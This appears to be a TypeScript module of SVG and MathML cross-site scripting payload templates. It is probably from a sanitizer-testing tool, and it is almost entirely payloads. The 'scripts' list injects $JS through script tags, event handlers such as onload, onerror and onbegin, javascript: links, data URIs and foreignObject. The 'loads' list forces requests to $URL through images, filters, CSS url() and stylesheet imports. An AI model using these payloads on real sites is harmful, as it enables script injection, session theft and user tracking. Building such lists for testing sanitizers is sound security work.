import type { Payload } from './payload'

const xlink = 'xmlns:xlink="http://www.w3.org/1999/xlink"'
const inSvg = (content: string, attributes = ''): Payload =>
  `<svg ${xlink} width=20 height=20${attributes}>${content}</svg>`

const scripts: Payload[] = [
  inSvg('<script>$JS</script>'),
  inSvg('<script type="text/javascript">$JS</script>'),
  inSvg('<script><![CDATA[$JS]]></script>'),
  inSvg('<script>&#116;op.self;$JS</script>'),
  inSvg('<script href="data:text/javascript,$JS"/>'),
  inSvg('<script xlink:href="data:text/javascript;base64,$DATA($JS)$"/>'),
  inSvg('<script href="$URL"/>'),
  inSvg('<g onload=$JS></g><svg onload=$JS></svg>'),
  inSvg('<image href=x onerror=$JS />'),
  inSvg('<image xlink:href="x" onerror="$JS"/>'),
  inSvg('<animate onbegin=$JS attributeName=x dur=1s />'),
  inSvg('<set onbegin=$JS attributeName=x to=1 />'),
  inSvg('<animateTransform onbegin=$JS attributeName=transform dur=1s />'),
  inSvg('<animateMotion onbegin=$JS dur=1s />'),
  inSvg('<animate attributeName=x dur=1ms onend=$JS />'),
  inSvg('<animate attributeName=x dur=10ms repeatCount=2 onrepeat=$JS />'),
  inSvg(
    '<a><animate attributeName=href values="javascript:$JS"/><text y=15>x</text></a><a href="javascript:$JS"><text>y</text></a>',
  ),
  inSvg('<a href="javascript:$JS"><set attributeName=href to="javascript:$JS"/><text y=15>x</text></a>'),
  inSvg('<a xlink:href=x href="javascript:$JS"><circle r=9 /></a>'),
  inSvg(
    '<use href="data:image/svg+xml;base64,$DATA(<svg id="x" xmlns="http://www.w3.org/2000/svg"><script>$JS</script></svg>)$#x"/><script>$JS</script>',
  ),
  inSvg('<use href="dA\tta:image/svg+xml,x"/><script>$JS</script>'),
  inSvg('<foreignObject><img src=x onerror=$JS></foreignObject>'),
  inSvg('<foreignObject><iframe srcdoc="<script>$JS</script>"></iframe></foreignObject>'),
  inSvg('<foreignObject><body onload=$JS></foreignObject><image href=x onerror=$JS />'),
  inSvg('<desc><img src=x onerror=$JS></desc>'),
  inSvg('<title><img src=x onerror=$JS></title>'),
  inSvg('<handler type="text/javascript">$JS</handler><script>$JS</script>'),
  inSvg(
    '<style>@keyframes k{}</style><g style="animation-name:k" onanimationstart=$JS></g><image href=x onerror=$JS />',
  ),
  inSvg('<discard onbegin=$JS /><set onbegin=$JS attributeName=x to=1 />'),
  '<svg><svg><svg><script>$JS</script>',
  '<SVG><ScRipt>$JS</ScRipt></SVG>',
  '<svg><script>alert&lpar;1&rpar;</script><script>$JS</script></svg>',
  '<math><maction actiontype="statusline" xlink:href="javascript:$JS">x</maction></math><img src=x onerror=$JS>',
  '<math href="javascript:$JS">x</math><a href="javascript:$JS">y</a>',
  '<math><mrow xlink:type=simple xlink:href="javascript:$JS"><mi>x</mi></mrow></math><img src=x onerror=$JS>',
  '<math><mi onmouseover=$JS>x</mi></math>',
  '<math><semantics><annotation-xml encoding="application/xhtml+xml"><img src=x onerror=$JS></annotation-xml></semantics></math>',
]

const loads: Payload[] = [
  inSvg('<image href="$URL"/>'),
  inSvg('<image xlink:href="$URL" width=9 height=9 />'),
  inSvg('<feImage href="$URL"/><image href="$URL"/>'),
  inSvg('<filter id=f><feImage href="$URL"/></filter><rect width=9 height=9 filter="url(#f)"/>'),
  inSvg('<filter id=f><feImage xlink:href="$URL"/></filter><rect width=9 height=9 style="filter:url(#f)"/>'),
  inSvg('<rect width=9 height=9 fill="url($URL#a)"/><image href="$URL"/>'),
  inSvg('<rect width=9 height=9 mask="url($URL#a)"/>'),
  inSvg('<rect width=9 height=9 filter="url($URL#a)"/><image href="$URL"/>'),
  inSvg('<rect width=9 height=9 clip-path="url($URL#a)"/><image href="$URL"/>'),
  inSvg('<path d="M0 0h9" marker-start="url($URL#m)"/><image href="$URL"/>'),
  inSvg(
    '<pattern id=p width=9 height=9><image href="$URL"/></pattern><rect width=9 height=9 fill="url(#p)"/>',
  ),
  inSvg('<use href="$URL#a"/><image href="$URL"/>'),
  inSvg('<style>@import "$URL";</style>'),
  inSvg('<style>rect{fill:red;background:url($URL)}svg{background:url($URL)}</style><rect/>'),
  inSvg('<g style="background:url($URL)"></g><image href="$URL"/>'),
  inSvg('', ' style="background:url($URL)"'),
  inSvg('<foreignObject width=9 height=9><img src="$URL"></foreignObject>'),
  inSvg('<image><animate attributeName=href to="$URL" dur=1ms fill=freeze /></image><image href="$URL"/>'),
  inSvg('<image><set attributeName=href to="$URL"/></image>'),
  inSvg('<text><tspan cursor="url($URL)">x</tspan></text><image href="$URL"/>'),
  '<?xml-stylesheet href="$URL"?><svg><image href="$URL"/></svg>',
  '<img src="data:image/svg+xml,<svg xmlns=\'http://www.w3.org/2000/svg\'><image href=\'$URL\'/></svg>"><img src="$URL">',
]

export const drawings: Payload[] = [...scripts, ...loads]
